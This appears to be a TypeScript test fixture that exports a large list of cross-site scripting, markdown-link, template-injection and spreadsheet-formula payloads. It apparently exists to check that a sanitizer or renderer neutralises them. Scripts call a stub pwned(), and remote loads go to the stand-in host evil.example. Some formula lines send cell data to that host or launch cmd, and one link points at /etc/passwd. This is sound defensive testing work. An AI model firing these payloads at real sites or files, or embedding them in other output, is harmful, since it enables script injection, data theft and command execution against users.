/**
 * Texts that try to run scripts, to load resources, or to break the surrounding markup. Scripts
 * call pwned(), requests go to this host.
 */
export const EVIL_HOST = 'evil.example';

/** One payload per line; ¦ stands for a line break. */
const LINES = String.raw`
<script>pwned()</script>
<SCRIPT SRC=//evil.example/a.js></SCRIPT>
<ScRiPt>pwned()</sCrIpT>
<script >pwned()</script >
<script/x>pwned()</script>
<script¦>pwned()</script¦>
<scr<script>ipt>pwned()</scr</script>ipt>
<script>/*</script><script>*/pwned()</script>
<script type="module">pwned()</script>
<script type="text/javascript" async defer>pwned()</script>
<script src="data:text/javascript,pwned()"></script>
<script src="data:;base64,cHduZWQoKQ=="></script>
<script>eval(atob('cHduZWQoKQ=='))</script>
<svg><script>pwned()</script></svg>
<svg><script href="data:,pwned()"/></svg>
<svg><script xlink:href="https://evil.example/a.js"></script></svg>
"><script>pwned()</script>
'><script>pwned()</script>
</script><script>pwned()</script>
</title><script>pwned()</script>
</textarea><script>pwned()</script>
</style><script>pwned()</script>
</noscript><script>pwned()</script>
]]><script>pwned()</script>
--><script>pwned()</script>
*/</script><script>pwned()</script>
${'`'}<script>pwned()</script>${'`'}
<img src=x onerror=pwned()>
<img/src=x/onerror=pwned()>
<img src=x onerror=${'`'}pwned()${'`'}>
<img src=x:x onerror&#61;"pwned()">
<img src=x onerror=&#112;&#119;&#110;&#101;&#100;()>
<img src=x onerror="&#x70;wned()">
<img """><script>pwned()</script>">
<img src=1 href=1 onerror="pwned()">
<img src="https://evil.example/a.png">
<img srcset="https://evil.example/b.png 1x">
<picture><source srcset=https://evil.example/c.png><img src=x onerror=pwned()></picture>
<image src=x onerror=pwned()>
<image href="https://evil.example/d.png">
<body onload=pwned()>
<body background="https://evil.example/e.png">
<html onmouseover=pwned()>
<svg/onload=pwned()>
<svg><g onload=pwned()></g></svg>
<svg><animate onbegin=pwned() attributeName=x dur=1s>
<svg><set onbegin=pwned() attributeName=x>
<svg><a xlink:href="javascript:pwned()"><text x=20 y=20>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:pwned() /><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgb25sb2FkPSJwd25lZCgpIi8+#x"/></svg>
<svg><image href="https://evil.example/f.svg"/></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.pwned()</script>"></iframe></foreignObject></svg>
<svg><style>@import "https://evil.example/g.css";</style></svg>
<svg><style><img src=x onerror=pwned()></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=pwned()>">
<math><mi//xlink:href="data:x,<script>pwned()</script>">
<math href="javascript:pwned()">x</math>
<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:pwned()">x</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">
<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror='pwned()'>">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=pwned()></style></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>
<noscript><p title="</noscript><img src=x onerror=pwned()>">
<noembed><img title="</noembed><img src onerror=pwned()>"></noembed>
<xmp><p title="</xmp><svg/onload=pwned()>">
<listing>&lt;img onerror=pwned() src=x&gt;</listing>
<template><script>pwned()</script></template>
<template shadowrootmode=open><img src=x onerror=pwned()></template>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=pwned()>">
<table><td background="https://evil.example/h.png">
<table><tr><td><svg><desc><td></desc></svg><img src=x onerror=pwned()>
<a href="javascript:pwned()">x</a>
<a href="JaVaScRiPt:pwned()">x</a>
<a href=" javascript:pwned()">x</a>
<a href="java&#x09;script:pwned()">x</a>
<a href="java&#10;script:pwned()">x</a>
<a href="&#106;avascript:pwned()">x</a>
<a href="javascript&colon;pwned()">x</a>
<a href="&#x6a&#x61vascript:pwned()">x</a>
<a href="data:text/html,<script>pwned()</script>">x</a>
<a href="vbscript:pwned()">x</a>
<a onclick=pwned()>x</a>
<a onmouseover=pwned() href=#>x</a>
<a href="https://evil.example/" ping="https://evil.example/ping">x</a>
<input autofocus onfocus=pwned()>
<input type=image src=https://evil.example/i.png onerror=pwned()>
<select autofocus onfocus=pwned()>
<textarea autofocus onfocus=pwned()>
<button autofocus onfocus=pwned()>x</button>
<button formaction=javascript:pwned()>x</button>
<form action="javascript:pwned()"><input type=submit>
<form id=x></form><button form=x formaction="https://evil.example">x</button>
<isindex type=image src=1 onerror=pwned()>
<details open ontoggle=pwned()>
<marquee onstart=pwned()>x</marquee>
<video><source onerror=pwned()></video>
<video src=https://evil.example/j.mp4 poster=https://evil.example/j.png onerror=pwned()>
<audio src="https://evil.example/k.mp3" autoplay>
<track src=https://evil.example/l.vtt default>
<object data="javascript:pwned()">
<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoKTwvc2NyaXB0Pg==">
<embed src="javascript:pwned()">
<embed src="https://evil.example/m.swf">
<applet code="pwned" codebase="https://evil.example/">
<iframe src="javascript:parent.pwned()">
<iframe srcdoc="<script>parent.pwned()</script>">
<iframe src="https://evil.example/">
<iframe onload=pwned()>
<frameset onload=pwned()>
<link rel=stylesheet href="https://evil.example/n.css">
<link rel="prefetch" href="https://evil.example/o">
<link rel=import href="data:text/html,<script>pwned()</script>">
<meta http-equiv="refresh" content="0;url=javascript:pwned()">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<base href="https://evil.example/">
<base href="javascript:pwned()//">
<style>@import url(https://evil.example/p.css);</style>
<style>*{background:url(https://evil.example/q.png)}</style>
<style>@font-face{font-family:x;src:url(https://evil.example/r.woff)}*{font-family:x}</style>
<style onload=pwned()></style>
<div style="background:url(https://evil.example/s.png)">x</div>
<div style="background-image:image-set('https://evil.example/t.png' 1x)">x</div>
<div style="width:expression(pwned())">x</div>
<div style="position:fixed;inset:0;z-index:99999">x</div>
<div onpointerover=pwned() style="position:fixed;inset:0">x</div>
<div onanimationstart=pwned() style="animation:x 1s">x</div>
<div contenteditable onbeforeinput=pwned() autofocus>x</div>
<div popover id=y onbeforetoggle=pwned()>x</div><button popovertarget=y>x</button>
<x onfocus=pwned() tabindex=1 id=z>
<x contenteditable onblur=pwned()>
<p id="__proto__" name="constructor">x</p>
<a id=location href="https://evil.example/"></a>
<img name=cookie><form name=body>
<%00script>pwned()</script>
<s%00cript>pwned()</script>
<?xml version="1.0"?><script>pwned()</script>
<?php echo 1; ?><img src=x onerror=pwned()>
<!--[if gte IE 4]><script>pwned()</script><![endif]-->
<!-- --!><img src=x onerror=pwned()> -->
<!--><img src=x onerror=pwned()>-->
<![CDATA[<script>pwned()</script>]]>
<!DOCTYPE x [<!ENTITY y SYSTEM "https://evil.example/z">]>
<//script><img src=x onerror=pwned()>
< img src=x onerror=pwned()>
＜script＞pwned()＜/script＞
\u003cscript\u003epwned()\u003c/script\u003e
\x3Cimg src=x onerror=pwned()\x3E
%3Cscript%3Epwned()%3C/script%3E
&lt;script&gt;pwned()&lt;/script&gt;
&#60;script&#62;pwned()&#60;/script&#62;
&#x3c;img src=x onerror=pwned()&#x3e;
+ADw-script+AD4-pwned()+ADw-/script+AD4-
[a](javascript:pwned())
[b](JAVASCRIPT:pwned())
[c](<javascript:pwned()>)
[d](java&#115;cript:pwned())
[e](javascript&colon;pwned())
[f](java&Tab;script:pwned())
[g](\javascript:pwned())
[h](javascript://evil.example/%0Apwned())
[i](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)
[j](vbscript:pwned())
[k](//evil.example/protocol-relative)
[l](https://ok.example"onmouseover="pwned\(\))
[m](https://ok.example "title" onclick=pwned())
[n](file:///etc/passwd)
[o](blob:https://evil.example/1)
[p](feed:javascript:pwned())
[q](view-source:javascript:pwned())
[r](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;pwned())
[<img src=x onerror=pwned()>](https://ok.example)
[s][evil]¦¦[evil]: javascript:pwned() "t"
[t][worse]¦¦[worse]: <data:text/html,pwned()>
[__proto__]¦¦[__proto__]: javascript:pwned()
[u][constructor] [toString][] [hasOwnProperty]
![a](javascript:pwned())
![b](https://evil.example/image.png)
![c](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKCkiLz4=)
![d](x"onerror="pwned())
![e](https://evil.example/u.png "x" onerror=pwned())
![f][pic]¦¦[pic]: https://evil.example/v.png
[![g](https://evil.example/w.png)](javascript:pwned())
![<script>pwned()</script>](https://evil.example/x.png)
<javascript:pwned()>
<data:text/html,pwned()>
<vbscript:pwned()>
<mailto:a@b.example"onclick="pwned()>
https://ok.example/"onmouseover="pwned()
https://ok.example/<img/src=x/onerror=pwned()>
www.ok.example/'onclick='pwned()
http://javascript:pwned()@evil.example/
javascript:pwned()//https://ok.example
user"onclick="pwned()@ok.example
# <img src=x onerror=pwned()>
> <script>pwned()</script>
- <iframe srcdoc="<script>parent.pwned()</script>">
| <img src=x onerror=pwned()> |¦|---|¦| <script>pwned()</script> |
~~<svg onload=pwned()>~~ **<b onclick=pwned()>x</b>**
- [x] <input onfocus=pwned() autofocus>
[^1]¦¦[^1]: <img src=x onerror=pwned()>
${'${'}pwned()}
#{pwned()} {{pwned()}} {{constructor.constructor('pwned()')()}}
<%= pwned() %> [[pwned()]] @{pwned()}
';pwned();//
";pwned();//
\";pwned();//
=cmd|'/C calc'!A0
=HYPERLINK("https://evil.example/?"&A1,"x")
@SUM(1+1)*cmd|'/C calc'!A0
+IMPORTXML("https://evil.example/","//a")
-2+3+cmd|'/C calc'!A0
`;

const UNSEEN = [
  'safe\u202Egnp.tpircs\u202C<img src=x onerror=pwned()>',
  '\u2066<script>pwned()</script>\u2069',
  '<scr\u200Bipt>pwned()</scr\u200Bipt>',
  '<img src=x on\u00ADerror=pwned()>',
  '\uFEFF<script>pwned()</script>',
  '<script\u2028>pwned()</script>',
  '[v](java\tscript:pwned())',
  '[w](\u0001javascript:pwned())',
  '[x](\u00A0javascript:pwned())',
  '[y](jav\u00ADascript:pwned())',
  '<a href="\u0001javascript:pwned()">x</a>',
  '<a href="java\u2029script:pwned()">x</a>',
  '<ſcript>pwned()</ſcript>',
  '<İMG src=x onerror=pwned()>',
];

/** PostgreSQL stores no NUL: such a text is refused or loses it. */
export const WITH_NUL = ['<scr\u0000ipt>pwned()</script>', '<img src=x on\u0000error=pwned()>', '[z](java\u0000script:pwned())'];

export const PAYLOADS: readonly string[] = [
  ...LINES.split('\n')
    .filter((line) => line !== '')
    .map((line) => line.replaceAll('¦', '\n')),
  ...UNSEEN,
];
